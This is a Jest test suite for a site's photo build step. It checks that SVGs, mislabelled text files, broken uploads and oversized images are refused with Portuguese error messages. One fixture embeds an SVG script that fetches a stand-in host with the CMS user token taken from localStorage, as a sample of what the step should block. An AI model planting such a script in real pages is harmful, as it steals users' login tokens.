/** @jest-environment node */
import { execFileSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { MAX_PHOTO_BYTES, MAX_PHOTO_PIXELS } from '@/scripts/build/photos.mjs';

// What the company (or the CMS's media library, which writes to public/photos/ whether or not an
// entry names the file) can put in the photo folder, and the build step refuses: a file that is
// not a raster photo by its bytes (an SVG, which can carry script, whatever its name; a text file
// named .jpg), a broken photo, one too large for the build or any host. Each refusal is a sentence
// in Portuguese naming the file and what to do, the step exits non-zero, prints no stack trace
// and writes no variant of anything.

jest.setTimeout(60_000);

const SCRIPT = join(__dirname, '..', '..', '..', 'scripts', 'build', 'photos.mjs');

let dir: string;
let sourceDir: string;
let outDir: string;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'photos-refusals-'));
  sourceDir = join(dir, 'photos');
  outDir = join(dir, 'generated');
  mkdirSync(sourceDir);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** The build step run as `npm run build` runs it, on the test's folders. */
function runStep(): { code: number; stdout: string; stderr: string } {
  try {
    const stdout = execFileSync(process.execPath, [SCRIPT, sourceDir, outDir, '/generated/photos'], { encoding: 'utf8', stdio: 'pipe' });
    return { code: 0, stdout, stderr: '' };
  } catch (error) {
    const { status, stdout, stderr } = error as { status: number; stdout: string; stderr: string };
    return { code: status, stdout, stderr };
  }
}

/** A small photo (a flat colour), made in a few milliseconds. */
const smallPhoto = (format: 'jpeg' | 'png', width = 640, height = 400) =>
  sharp({ create: { width, height, channels: 3, background: '#4f9a5c' } })
    .toFormat(format)
    .toBuffer();

/** A valid PNG of `width` × `height` black-and-white pixels, a few kilobytes however large. */
function bigPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8); // 1 bit per pixel, greyscale
  const row = Buffer.alloc(1 + Math.ceil(width / 8));
  const rows = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="500"><rect width="800" height="500" fill="#1c4f7a"/>' +
  '<script>fetch("https://example.test/?t=" + localStorage.getItem("decap-cms-user"))</script></svg>';

/** What every refusal shares: exit code 1, the file named, Portuguese, no stack trace, nothing made. */
function expectRefused(result: ReturnType<typeof runStep>, file: string) {
  expect(result.code).toBe(1);
  expect(result.stderr).toContain(`public/photos/${file}`);
  expect(result.stderr).not.toMatch(/^\s+at /m);
  expect(result.stderr).not.toMatch(/Error:|Input buffer|unsupported image format/);
  const made = existsSync(outDir) ? readdirSync(outDir).filter((name) => name !== 'manifest.json') : [];
  expect(made).toEqual([]);
}

describe('scripts/build/photos.mjs refuses what is not a photo it can publish', () => {
  it.each([
    ['an SVG named .svg', 'desenho.svg'],
    ['an SVG named .jpg', 'telhado.jpg'],
    ['an SVG named .png', 'logo.png'],
    ['an SVG without a size, named .webp', 'sem-tamanho.webp'],
  ])('%s, by its bytes: SVG can run script, whatever its name', (_, name) => {
    writeFileSync(join(sourceDir, name), name.startsWith('sem-') ? SVG_WITH_SCRIPT.replace(' width="800" height="500"', '') : SVG_WITH_SCRIPT);
    const result = runStep();
    expectRefused(result, name);
    expect(result.stderr).toContain(
      `A foto public/photos/${name} é um desenho SVG, não uma foto: o site só publica fotos JPG, PNG, WebP, AVIF ou TIFF. ` +
        'Apague o arquivo em Mídia, no painel /admin (ou da pasta public/photos/), e envie a foto em um desses formatos.',
    );
  });

  it('a text file named .jpg, saying so instead of a stack trace', () => {
    writeFileSync(join(sourceDir, 'foto-da-obra.jpg'), 'isto não é uma foto\n');
    const result = runStep();
    expectRefused(result, 'foto-da-obra.jpg');
    expect(result.stderr).toContain(
      'O arquivo public/photos/foto-da-obra.jpg não é uma imagem (o nome termina em .jpg, mas o conteúdo não é de uma foto). ' +
        'Apague o arquivo em Mídia, no painel /admin (ou da pasta public/photos/), e envie de novo a foto original em JPG, PNG, WebP, AVIF ou TIFF.',
    );
  });

  it('any other file in the folder: only photos go there', () => {
    writeFileSync(join(sourceDir, 'LEIA-ME.txt'), 'notas');
    expectRefused(runStep(), 'LEIA-ME.txt');
  });

  it('a photo cut short (an upload that did not finish)', async () => {
    const whole = await smallPhoto('jpeg', 900, 600);
    writeFileSync(join(sourceDir, 'cortada.jpg'), whole.subarray(0, Math.floor(whole.length / 2)));
    const result = runStep();
    expectRefused(result, 'cortada.jpg');
    expect(result.stderr).toContain('A foto public/photos/cortada.jpg está incompleta ou corrompida e não pode ser lida.');
  });

  it(`a photo over ${MAX_PHOTO_PIXELS / 1e6} megapixels (12,000 × 12,000), read from its header, never decoded`, () => {
    expect(MAX_PHOTO_PIXELS).toBe(100_000_000);
    writeFileSync(join(sourceDir, 'drone.png'), bigPng(12_000, 12_000));
    const result = runStep();
    expectRefused(result, 'drone.png');
    expect(result.stderr).toContain(
      'A foto public/photos/drone.png tem 12.000 × 12.000 pixels (144 megapixels), mais que os 100 megapixels que o site aceita. ' +
        'Reduza a foto (4.000 pixels de largura bastam: o site mostra no máximo 1.200) e envie de novo pelo painel /admin.',
    );
  });

  it(`a file over ${MAX_PHOTO_BYTES / 1e6} MB, whatever it holds`, async () => {
    expect(MAX_PHOTO_BYTES).toBe(25_000_000);
    writeFileSync(join(sourceDir, 'enorme.jpg'), await smallPhoto('jpeg'));
    appendFileSync(join(sourceDir, 'enorme.jpg'), Buffer.alloc(34_600_000));
    const result = runStep();
    expectRefused(result, 'enorme.jpg');
    expect(result.stderr).toMatch(
      /A foto public\/photos\/enorme\.jpg tem 34,6 MB, mais que os 25 MB que o site aceita\. Reduza a foto .* e envie de novo pelo painel \/admin\./,
    );
  });

  it('names every refused file at once, one per line, and says how many; the good photo beside them is not made either', async () => {
    writeFileSync(join(sourceDir, 'boa.jpg'), await smallPhoto('jpeg'));
    writeFileSync(join(sourceDir, 'a.svg'), SVG_WITH_SCRIPT);
    writeFileSync(join(sourceDir, 'b.jpg'), 'texto');
    const result = runStep();
    expectRefused(result, 'a.svg');
    expect(result.stderr.split('\n')[0]).toBe('photos: 2 arquivos em public/photos/ não podem ser publicados:');
    expect(result.stderr).toContain('public/photos/a.svg');
    expect(result.stderr).toContain('public/photos/b.jpg');
  });
});

describe('scripts/build/photos.mjs goes by the bytes, not the name', () => {
  it('takes a PNG named .jpg, and leaves hidden files (.gitkeep) alone', async () => {
    writeFileSync(join(sourceDir, 'na-verdade-png.jpg'), await smallPhoto('png'));
    writeFileSync(join(sourceDir, 'jpeg.jpg'), await smallPhoto('jpeg'));
    writeFileSync(join(sourceDir, '.gitkeep'), '');
    const result = runStep();
    expect([result.code, result.stderr]).toEqual([0, '']);
    expect(result.stdout).toContain('photos: 2 photo(s), 2 made, 0 unchanged');
  });
});
